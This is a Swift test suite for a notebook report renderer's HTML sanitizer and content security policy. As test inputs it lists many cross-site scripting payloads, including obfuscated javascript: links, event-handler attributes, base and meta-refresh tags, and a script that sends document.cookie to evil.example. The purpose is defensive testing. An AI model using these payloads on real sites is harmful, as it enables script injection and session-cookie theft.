import Foundation
import Testing
@testable import Notebook
@testable import Report

/// One fragment of raw HTML and what the sanitizer makes of it.
struct SanitizerCase: Sendable, CustomTestStringConvertible {
    let raw: String
    let safe: String
    var testDescription: String { raw }
    init(_ raw: String, _ safe: String) {
        self.raw = raw
        self.safe = safe
    }
}

/// Issue 21, case 10: raw HTML in prose is cut down to harmless formatting, ids that reach
/// attributes are escaped, and pages carry a policy that lets no script run.
@Suite struct HTMLSanitizerTests {
    static let cases: [SanitizerCase] = [
        .init("<script>alert(1)</script>after", "after"),
        .init("<SCRIPT type=text/javascript>x</ScRiPt >y", "y"),
        .init("<script>never closed", ""),
        .init("<style>body { display: none }</style><iframe src=https://evil.example></iframe>", ""),
        .init("<object data=x></object><embed src=x><applet>a</applet>", ""),
        .init("<svg onload=alert(1)><text>t</text></svg>ok", "ok"),
        .init("<img src=x onerror=alert(1)>", "<img src=\"x\">"),
        .init("<img src=\"data:image/png;base64,iVBOR\" alt='a \"b\"'>", "<img src=\"data:image/png;base64,iVBOR\" alt=\"a &quot;b&quot;\">"),
        .init("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a>x</a>"),
        .init("<a href=\"javascript:alert(1)\">x</a>", "<a>x</a>"),
        .init("<a href=\"jav&#x61;script&#58;alert(1)\">x</a>", "<a>x</a>"),
        .init("<a href=\"java\tscript:alert(1)\">x</a>", "<a>x</a>"),
        .init("<a href=\" \u{1}javascript:alert(1)\">x</a>", "<a>x</a>"),
        .init("<a href=\"javascript&colon;alert(1)\">x</a>", "<a>x</a>"),
        .init("<a href=\"javascript&colonx;alert(1)\">x</a>", "<a href=\"javascript&amp;colonx;alert(1)\">x</a>"),
        .init("<a href=\"vbscript:x\" title=t>x</a>", "<a title=\"t\">x</a>"),
        .init("<a href='https://example.org/?a=1&amp;b=2' target=_blank rel=opener>x</a>",
              "<a href=\"https://example.org/?a=1&amp;b=2\">x</a>"),
        .init("<a href=\"notes/a:b.html\">x</a><a href=\"#sec\">y</a><a href=\"mailto:a@b.c\">z</a>",
              "<a href=\"notes/a:b.html\">x</a><a href=\"#sec\">y</a><a href=\"mailto:a@b.c\">z</a>"),
        .init("<div onmouseover=\"alert(1)\" class=note style=\"position:fixed\">x</div>", "<div class=\"note\">x</div>"),
        .init("<p id=a id=b CLASS=c>x</p>", "<p id=\"a\" class=\"c\">x</p>"),
        .init("<!-- a comment --><!DOCTYPE html><?php x ?><![CDATA[y]]>z", "z"),
        .init("a < b > c & d &amp; e &#955; &#x3bb; &bogus", "a &lt; b &gt; c &amp; d &amp; e &#955; &#x3bb; &amp;bogus"),
        .init("<b>bold <i>both</b> plain", "<b>bold <i>both</i></b> plain"),
        .init("</p></main></body><b>x</b>", "<b>x</b>"),
        .init("<br/><hr><wbr>", "<br><hr><wbr>"),
        .init("<details open><summary>Hint</summary>Use <kbd>Ctrl</kbd>.</details>",
              "<details open=\"\"><summary>Hint</summary>Use <kbd>Ctrl</kbd>.</details>"),
        .init("<table><tr><td colspan=2 onclick=x>1</td></tr></table>", "<table><tr><td colspan=\"2\">1</td></tr></table>"),
        .init("<form action=x><input name=a><button>go</button></form>", "go"),
        .init("<base href=https://evil.example/><meta http-equiv=refresh content=0><link rel=stylesheet href=x>", ""),
        .init("<a href=x <b>", "<a href=\"x\"></a>"),
        .init("<a title=\"unterminated>x", "&lt;a title=\"unterminated&gt;x"),
        .init("<a <a <a <b>x", "<a>x</a>"),
    ]

    @Test(arguments: cases)
    func sanitizes(_ example: SanitizerCase) {
        var sanitizer = HTMLSanitizer()
        let safe = sanitizer.sanitize(example.raw) + sanitizer.closeAll()
        #expect(safe == example.safe)
    }

    /// The page of a notebook whose prose is `prose`, rendered with or without trust.
    static func page(_ prose: String, trustHTML: Bool = false) throws -> String {
        let notebook = Notebook.parse(name: "p.md", text: prose)
        let run = NotebookRun(notebook: notebook, frontMatter: notebook.frontMatter, cells: [])
        return try ReportRenderer.render(run, trustHTML: trustHTML).html
    }

    /// The page's `<main>` element's contents.
    static func main(_ html: String) -> String {
        guard let start = html.range(of: "<main>"), let end = html.range(of: "</main>") else { return "" }
        return String(html[start.upperBound..<end.lowerBound])
    }

    @Test func theIssuesPagesCarryNoScript() throws {
        let prose = """
            # Lab

            See @fig-<script>.

            Hover <span onmouseover="alert(1)">here</span> or <a href="javascript:alert(1)">click</a>.

            <script>fetch('https://evil.example/?' + document.cookie)</script>

            <div class="note">

            Some *Markdown* inside a raw block.

            </div>

            Left open: <b>bold
            """
        let html = try Self.page(prose)
        let body = Self.main(html)
        #expect(!html.lowercased().contains("<script"))
        #expect(!body.contains("onmouseover") && !body.contains("javascript:"))
        #expect(body.contains("Hover <span>here</span> or <a>click</a>."))
        #expect(body.contains("<div class=\"note\">\n<p>Some <em>Markdown</em> inside a raw block.</p>\n</div>"))
        #expect(body.contains("<p>Left open: <b>bold</p>\n</b>"))
        #expect(html.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src &#39;none&#39;; "
                              + "script-src &#39;none&#39;;"))
    }

    @Test func trustedHTMLGoesThroughAsWrittenWithoutThePolicy() throws {
        let html = try Self.page("# Lab\n\n<script>draw()</script>\n\nA <span onclick=\"f()\">b</span>.\n", trustHTML: true)
        #expect(html.contains("<script>draw()</script>"))
        #expect(html.contains("<span onclick=\"f()\">b</span>"))
        #expect(!html.contains("Content-Security-Policy"))
    }

    /// Raw HTML cannot close the page's own elements, and what it leaves open is closed at
    /// the end of its Markdown cell, before the next code cell.
    @Test func rawHTMLStaysInsideItsCell() throws {
        let notebook = Notebook.parse(name: "p.md", text: "# L\n\nA <i>tilt </p></main>\n\n```rnn\nx = 1\n```\n\nAfter.\n")
        let run = NotebookRun(notebook: notebook, frontMatter: notebook.frontMatter, cells: [])
        let body = Self.main(try ReportRenderer.render(run).html)
        #expect(body.contains("<p>A <i>tilt </p>\n</i>\n\n\n<div class=\"cell\""))
        #expect(body.components(separatedBy: "</main>").count == 1)
    }

    @Test func indexAndFeedbackPagesCarryThePolicyToo() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("rnnbook-csp-site-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: folder) }
        let notebooks = folder.appendingPathComponent("labs")
        try FileManager.default.createDirectory(at: notebooks, withIntermediateDirectories: true)
        try "# One\n\nText <script>x</script>.\n".write(to: notebooks.appendingPathComponent("01-one.md"), atomically: true, encoding: .utf8)
        let site = folder.appendingPathComponent("site")
        _ = try CourseSite.build(directory: notebooks.path, output: site.path)
        for name in ["index.html", "01-one.html"] {
            let html = try String(contentsOf: site.appendingPathComponent(name), encoding: .utf8)
            #expect(html.contains("<meta http-equiv=\"Content-Security-Policy\""), "\(name)")
            #expect(!html.contains("<script"), "\(name)")
        }
    }
}
